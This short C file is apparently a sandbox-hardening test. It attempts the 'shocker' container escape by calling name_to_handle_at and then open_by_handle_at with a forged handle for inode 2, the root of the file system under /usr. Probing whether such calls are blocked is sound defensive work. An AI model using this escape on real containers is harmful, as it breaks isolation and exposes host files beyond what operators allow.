/* The "shocker" escape: name_to_handle_at (open to users) and open_by_handle_at with a
 * forged handle for inode 2, the root of the file system holding /usr. */
#include "hostile.h"

struct handle_s { unsigned int bytes; int type; unsigned char f[128]; };

int main(void) {
    setup();
    struct handle_s h = {.bytes = 128};
    int mount_id = 0;
    TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &h, &mount_id, 0));
    int usr = open("/usr", O_RDONLY | O_DIRECTORY);
    struct handle_s forged = {.bytes = 8, .type = 1};
    forged.f[0] = 2;
    TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, usr, &forged, O_RDONLY));
    return 0;
}
